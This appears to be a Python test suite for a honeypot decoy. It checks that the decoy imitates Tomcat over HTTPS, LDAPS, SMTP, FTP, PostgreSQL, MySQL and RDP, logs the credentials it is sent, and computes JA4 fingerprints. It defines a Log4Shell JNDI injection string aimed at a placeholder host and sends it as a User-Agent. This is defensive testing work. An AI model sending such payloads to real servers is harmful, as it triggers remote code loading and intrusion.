"""Faces inside TLS, in the decoy itself: https, ldaps, STARTTLS of four protocols, RDP's NLA; and JA4 against another reading of the same bytes."""
import hashlib
import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time
import unittest

import face_case

DEADLINE = 60
ATTACK = "${jndi:ldap://198.51.100.1/a}"


def ja4(first):
    """JA4 by its definition, from the bytes of a ClientHello in one record."""
    def u16(b, i):
        return int.from_bytes(b[i:i + 2], "big")
    hello = first[9:9 + int.from_bytes(first[6:9], "big")]
    at = 34 + 1 + hello[34]
    ciphers = [u16(hello, i) for i in range(at + 2, at + 2 + u16(hello, at), 2)]
    at += 2 + u16(hello, at)
    at += 1 + hello[at] + 2
    extensions, bodies = [], {}
    while at < len(hello):
        kind, size = u16(hello, at), u16(hello, at + 2)
        extensions.append(kind)
        bodies[kind] = hello[at + 4:at + 4 + size]
        at += 4 + size

    def plain(values):
        return [v for v in values if not (v & 0x0f0f == 0x0a0a and v >> 8 == v & 0xff)]
    ciphers, extensions = plain(ciphers), plain(extensions)
    version = u16(hello, 0)
    if 43 in bodies:
        version = max(plain(u16(bodies[43], i) for i in range(1, len(bodies[43]), 2)))
    signatures = plain(u16(bodies[13], i) for i in range(2, len(bodies[13]), 2)) if 13 in bodies else []
    alpn = bodies[16][3:3 + bodies[16][2]].decode() if 16 in bodies else "00"

    def hashed(text):
        return hashlib.sha256(text.encode()).hexdigest()[:12] if text else "0" * 12
    rest = ",".join(f"{v:04x}" for v in sorted(v for v in extensions if v not in (0, 16)))
    if signatures:
        rest += "_" + ",".join(f"{v:04x}" for v in signatures)
    return (f"t{ {0x304: '13', 0x303: '12'}[version]}{'d' if 0 in extensions else 'i'}{len(ciphers):02}{len(extensions):02}{alpn[0]}{alpn[-1]}"
            f"_{hashed(','.join(f'{v:04x}' for v in sorted(ciphers)))}_{hashed(rest)}")


class Proxy:
    """Passes one connection on, and keeps what the client said first."""

    def __init__(self, port):
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.port, self.to, self.first = self.listener.getsockname()[1], port, b""
        self.thread = threading.Thread(target=self.run)
        self.thread.start()

    def run(self):
        with self.listener, self.listener.accept()[0] as client, socket.create_connection(("127.0.0.1", self.to)) as server:
            back = threading.Thread(target=self.pump, args=(server, client))
            back.start()
            self.pump(client, server, True)
            back.join()

    def pump(self, source, sink, keep=False):
        try:
            while data := source.recv(65536):
                if keep and not self.first:
                    self.first = data
                sink.sendall(data)
            sink.shutdown(socket.SHUT_WR)
        except OSError:
            pass


class Tls(unittest.TestCase):
    decoy = None

    @classmethod
    def setUpClass(cls):
        cls.dir = tempfile.mkdtemp(prefix="caltrop-faces-")
        cls.record = os.path.join(cls.dir, "contacts.ndjson")
        cls.decoy = subprocess.Popen([sys.argv[1], "decoy", "--unprivileged", "--answer-port", "443,636,25,21,5432,3306,3389", "--keep-credentials",
                                      "--data-dir", cls.dir, "--record", cls.record], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        cls.until(lambda: cls.answers(443))

    @classmethod
    def tearDownClass(cls):
        cls.decoy.terminate()
        cls.decoy.wait(DEADLINE)
        shutil.rmtree(cls.dir)

    @staticmethod
    def answers(port):
        try:
            socket.create_connection(("127.0.0.1", port)).close()
            return True
        except OSError:
            return False

    @staticmethod
    def until(condition):
        end = time.monotonic() + DEADLINE
        while not condition():
            if time.monotonic() > end:
                raise AssertionError("never came")
            time.sleep(0.02)

    def contacts(self, port):
        with open(self.record) as f:
            lines = [json.loads(line) for line in f.read().splitlines() if line.endswith("}")]
        return [c for c in lines if c["destination"]["port"] == port]

    def learnt(self, port, text):
        self.until(lambda: any(text in json.dumps(c) for c in self.contacts(port)))

    def run_client(self, *command, **env):
        done = subprocess.run(command, stdin=subprocess.DEVNULL, capture_output=True, text=True, errors="replace", timeout=DEADLINE,
                              env=dict(os.environ, LC_ALL="C.UTF-8", **env), check=False)
        return done.stdout + done.stderr

    def test_https(self):
        out = self.run_client("curl", "-sSk", "-i", "-A", ATTACK, "-u", "tomcat:pass-h", "https://127.0.0.1/manager/html")
        self.assertIn("Tomcat Manager Application", out)
        self.learnt(443, "pass-h")
        self.learnt(443, '"grade": "exploit"')

    def test_ldaps(self):
        out = self.run_client("ldapsearch", "-x", "-H", "ldaps://127.0.0.1", "-D", "cn=root", "-w", "pass-l", "-b", "dc=x", LDAPTLS_REQCERT="never")
        self.assertIn("Invalid credentials (49)", out)
        self.learnt(636, "pass-l")

    def test_smtp(self):
        out = self.run_client("swaks", "--server", "127.0.0.1", "--from", "a@b.c", "--to", "x@example.com", "-tls", "--auth", "LOGIN", "--auth-user", "joe",
                              "--auth-password", "pass-s")
        self.assertIn("=== TLS started", out)
        self.assertIn("<~* 535 5.7.8", out)
        self.learnt(25, "pass-s")

    def test_ftp(self):
        out = self.run_client("lftp", "-e", "set net:max-retries 1; set ssl:verify-certificate no; set ftp:ssl-force yes; ls; bye", "-u", "joe,pass-f", "ftp://127.0.0.1")
        self.assertIn("530 Login incorrect.", out)
        self.learnt(21, "pass-f")

    def test_databases(self):
        out = self.run_client("psql", "host=127.0.0.1 user=u dbname=d sslmode=require", "-c", "select 1", PGPASSWORD="pass-q")
        self.assertIn("password authentication failed", out)
        self.learnt(5432, "pass-q")
        out = self.run_client("mysql", "--no-defaults", "-h", "127.0.0.1", "-u", "root", "-ppass-m", "--ssl")
        self.assertIn("Access denied for user 'root'@'127.0.0.1' (using password: YES)", out)
        self.until(lambda: any(c.get("tls") for c in self.contacts(3306)))

    def test_rdp(self):
        out = self.run_client("nmap", "-n", "-Pn", "-sT", "-p", "3389", "--script", "rdp-ntlm-info", "127.0.0.1")
        name = socket.gethostname().split(".")[0]
        self.assertIn("Target_Name: " + name.upper(), out)
        self.assertIn("DNS_Computer_Name: " + name.lower() + ".", out)

    def test_nmap_sees_tls(self):
        out = self.run_client("nmap", "-n", "-Pn", "-sT", "-sV", "-p", "443", "127.0.0.1")
        self.assertRegex(out, r"443/tcp +open +ssl/http +Apache Tomcat 9")

    def test_ja4(self):
        for options in ([], ["--tls-max", "1.2"], ["--http1.1"], ["--no-alpn"], ["--ciphers", "ECDHE-ECDSA-AES128-GCM-SHA256"]):
            with self.subTest(options=options):
                proxy = Proxy(443)
                self.run_client("curl", "-sSk", "-o", "/dev/null", "--connect-to", f"app.test:443:127.0.0.1:{proxy.port}", *options, "https://app.test/")
                proxy.thread.join(DEADLINE)
                self.learnt(443, '"ja4": "' + ja4(proxy.first) + '"')
                self.learnt(443, '"server_name": "app.test"')


if __name__ == "__main__":
    face_case.need("curl", "ldapsearch", "swaks", "lftp", "psql", "mysql", "nmap")
    face_case.own_network()
    unittest.main(argv=sys.argv[:1] + sys.argv[2:])
